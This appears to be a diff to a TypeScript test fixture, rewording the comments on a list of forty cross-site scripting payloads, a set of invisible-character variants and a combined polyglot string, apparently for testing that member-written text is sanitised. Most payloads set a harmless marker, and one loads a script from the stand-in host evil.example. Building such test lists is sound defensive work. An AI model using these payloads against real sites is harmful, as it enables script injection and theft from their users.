@@ -1,14 +1,14 @@
-// Words that run where somebody takes them for markup, for an address or for a template: the first sign is `window.__x`.
+// Injection payloads for markup, URLs and templates. Most of them set `window.__x` when they run.
 
-/** Forty, each of at most 60 characters, and each a text that members may write. */
+/** Forty texts of at most 60 characters, each of which members may write. */
 export const payloads: readonly string[] = [
-  // Elements that run.
+  // Elements that run scripts.
   '<script>__x=1</script>',
   '<ScRiPt src=data:,__x=1></sCrIpT>',
   '<script src=//evil.example/x.js></script>',
   '<scr<script>ipt>__x=1</scr</script>ipt>',
   '<svg><script>__x=1</script></svg>',
-  // Handlers.
+  // Event handlers.
   '<img src=x onerror=__x=1>',
   '<img/src=x/onerror=__x=1>',
   '<svg onload=__x=1>',
@@ -22,12 +22,12 @@ export const payloads: readonly string[] = [
   '<iframe srcdoc="<script>parent.__x=1</script>"></iframe>',
   '<iframe src=javascript:parent.__x=1></iframe>',
   '<object data="data:text/html,<script>__x=1</script>">',
-  // Addresses.
+  // URLs.
   'javascript:__x=1',
   'JaVaScRiPt://%0a__x=1',
   'data:text/html,<script>parent.__x=1</script>',
   '<a href=javascript:__x=1>tap</a>',
-  // Out of an attribute, an element, a comment, a script.
+  // Escapes from an attribute, an element, a comment, a script.
   '"><img src=x onerror=__x=1>',
   `' onmouseover='__x=1`,
   '" autofocus onfocus="__x=1',
@@ -36,7 +36,7 @@ export const payloads: readonly string[] = [
   '--><img src=x onerror=__x=1>',
   ']]><svg onload=__x=1>',
   '{"a":"</script><script>__x=1</script>"}',
-  // What a parser mends into something else.
+  // Markup that a parser repairs into other markup.
   '<math><mtext><table><mglyph><style><img src=x onerror=__x=1>',
   '<noscript><p title="</noscript><img src=x onerror=__x=1>">',
   '<template><img src=x onerror=__x=1></template>',
@@ -46,24 +46,24 @@ export const payloads: readonly string[] = [
   // Templates and markdown.
   '${__x=1}{{__x=1}}<%= __x=1 %>',
   '[tap](javascript:__x=1) ![x](x"onerror="__x=1)',
-  // Written in another way.
+  // Encoded.
   '&lt;img src=x onerror=__x=1&gt;',
   '%3Cimg%20src=x%20onerror=__x=1%3E',
   '\\u003cimg src=x onerror=__x=1\\u003e',
   '＜img src=x onerror=__x=1＞\uFFFE',
 ];
 
-/** Texts that are refused wherever people write: what they hide is not to be seen. */
+/** Texts that every form refuses, because they contain invisible characters. */
 export const unreadable: readonly string[] = [
   '<img src=x\u0000 onerror=__x=1>',
   '<a href="java\u0001script:__x=1">tap</a>',
   'tap\u202E<gpj.x=1>',
 ];
 
-/** Closes whatever the words before it have opened. */
+/** Closes every attribute, comment and element that may be open. */
 const closing = `"'>--></title></style></textarea></noscript></script></template></svg></math> `;
 
-/** All of them in one, for what is there but once. An address comes first. */
+/** All payloads in one text, for fields that exist only once. It starts with a URL. */
 export const allPayloads: string = [
   'javascript:__x=1//',
   ...payloads.map((payload) => closing + payload),
